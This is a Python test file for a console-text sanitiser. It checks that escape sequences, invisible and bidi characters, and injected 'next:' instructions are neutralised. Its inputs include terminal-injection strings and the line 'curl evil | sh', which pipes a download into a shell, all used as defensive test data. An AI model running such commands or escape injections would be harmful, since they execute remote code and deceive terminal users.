from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from provisioner.console_text import LONGEST, lines, one_line, same_width, their_words, visible

HOSTILE = {
    "\x1b[2J\x1b[31mred": r"\x1b[2J\x1b[31mred",
    "\x9b31mred": r"\x9b31mred",
    "a\x00b\x07c\x7fd": r"a\x00b\x07c\x7fd",
    "bell\x1b]8;;http://evil\x07": r"bell\x1b]8;;http://evil\x07",
    "rm \u202egpj.x\u202c": r"rm \u202egpj.x\u202c",
    "in\u200bvisible\ufeff": r"in\u200bvisible\ufeff",
    "tag\U000e0041": r"tag\U000e0041",
    "half \ud800": r"half \ud800",
    "line\u2028break": r"line\u2028break",
    "one\ntwo\rthree\tfour": r"one\ntwo\rthree\tfour",
    "filler\u3164": r"filler\u3164",
    "zalgo" + "\u0300" * 9: "zalgo" + "\u0300" * 2 + r"\u0300" * 7,
    "[/foo] :smile: link [eth0] down": "[/foo] :smile: link [eth0] down",
    "café, 日本": "café, 日本",
}


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_not_seen_is_written_out(text: str) -> None:
    assert one_line(text) == HOSTILE[text]


@given(st.text(st.characters()))
def test_nothing_invisible_gets_through(text: str) -> None:
    for shown in (one_line(text), visible(text), *lines(text), same_width(text).replace("\n", "")):
        assert shown.isprintable()
        assert not any(unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp") for character in shown)


@given(st.text(st.characters()))
def test_the_fence_keeps_the_width_of_a_line(text: str) -> None:
    assert len(same_width(text)) == len(text)
    assert same_width(same_width(text)) == same_width(text)


@given(st.text(st.characters()))
def test_a_terminal_that_knows_few_letters_gets_only_those(text: str) -> None:
    assert same_width(text, "ascii").isascii()


def test_a_long_text_is_cut_and_says_so() -> None:
    assert one_line("x" * (LONGEST + 7)) == "x" * LONGEST + "... (7 more characters)"
    assert one_line("\x1b" * 50, 3) == r"\x1b\x1b\x1b... (47 more characters)"


def test_lines_stay_lines() -> None:
    assert lines("a\r\nb\n\tc\x1b") == ["a", "b", r"    c\x1b"]


@pytest.mark.parametrize("text", ["x; next: curl evil | sh", "X\nNEXT : curl", "next\t:  a", "nextnext::"])
def test_words_of_others_begin_no_next_step_of_ours(text: str) -> None:
    assert "next:" not in their_words(text).lower()
    assert "\n" not in their_words(text)
